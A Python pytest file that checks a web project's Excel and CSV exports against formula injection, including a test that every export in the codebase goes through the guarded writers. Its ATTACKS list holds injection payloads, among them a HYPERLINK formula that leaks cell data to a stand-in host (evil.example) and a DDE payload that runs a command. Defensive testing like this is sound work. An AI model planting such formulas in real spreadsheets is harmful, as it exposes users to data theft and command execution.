"""No cell of any export is a formula: what a person typed stays text in Excel, LibreOffice and as CSV."""

import ast
import csv
import io
from pathlib import Path

import openpyxl
import pytest
from hypothesis import given
from hypothesis import strategies as st

from people.workbook.writer import write_text, write_workbook
from portal.opendata.csv_file import cell

ROOT = Path(__file__).resolve().parents[2]
ATTACKS = [
    "=1+1",
    '=HYPERLINK("https://evil.example/?"&A1,"x")',
    "+1+1",
    "-1+1",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "=cmd|' /C calc'!A0",
    "＝1+1",
    "'=1+1",
    "#REF!",
]
STARTS = ("=", "+", "-", "@", "\t", "\r", "\n")


@pytest.mark.parametrize("attack", ATTACKS)
def test_a_workbook_keeps_what_was_typed_as_text(attack):
    content = write_workbook([(attack[:5].strip("=:\\/?*[]'\t\r\n") or "x", [(attack, 20)], [[attack]])])
    sheet = openpyxl.load_workbook(io.BytesIO(content)).worksheets[0]
    kinds = {kept.data_type for row in sheet.iter_rows() for kept in row}
    assert kinds <= {"s", "inlineStr"}


@pytest.mark.parametrize("attack", ATTACKS)
@pytest.mark.parametrize("write", [lambda text: write_text([("Tên", 20)], [[text]]), None])
def test_a_csv_begins_no_cell_as_a_formula(attack, write):
    if write:
        text = write(attack).decode("utf-8-sig")
        kept = list(csv.reader(io.StringIO(text, newline="")))[1][0]
    else:
        kept = cell(attack)
    assert not kept.startswith(STARTS)
    assert attack.strip() in kept or kept.strip("'").strip() == attack.strip("'").strip()


@given(st.text(max_size=30))
def test_whatever_is_typed_no_csv_cell_is_a_formula(text):
    written = write_text([("Tên", 20)], [[text]]).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(written, newline="")))
    kept = rows[1][0] if len(rows) > 1 and rows[1] else ""
    assert not kept.startswith(STARTS)
    assert not str(cell(text)).startswith(STARTS)


def modules():
    for folder in ("site", "ideas", "training", "competitions"):
        for path in (ROOT / folder).rglob("*.py"):
            if "migrations" not in path.parts:
                yield path.relative_to(ROOT).as_posix(), ast.parse(path.read_text())


def test_every_export_goes_through_the_writers_asked_above():
    """Whoever writes a workbook or a CSV elsewhere is found here."""
    makes_workbooks, makes_csv = set(), set()
    for name, tree in modules():
        for node in ast.walk(tree):
            if isinstance(node, ast.ImportFrom) and (node.module or "").startswith("openpyxl"):
                makes_workbooks |= {name for alias in node.names if alias.name == "Workbook"}
            if isinstance(node, ast.Import) and any(alias.name == "openpyxl" for alias in node.names):
                makes_workbooks.add(name)
            called = getattr(node, "func", None)
            if isinstance(called, ast.Attribute) and ast.unparse(called) in ("csv.writer", "csv.DictWriter"):
                makes_csv.add(name)
    assert makes_workbooks == {"site/people/workbook/writer.py"}
    assert makes_csv == {"site/people/workbook/writer.py", "site/portal/opendata/csv_file.py"}


@pytest.mark.django_db
def test_the_editor_s_own_lists_are_csv_without_formulas():
    from wagtail.admin.views.mixins import SpreadsheetExportMixin as Mixin

    preprocess = Mixin.custom_value_preprocess[str][Mixin.FORMAT_CSV]
    assert preprocess("=1+1") == "'=1+1"
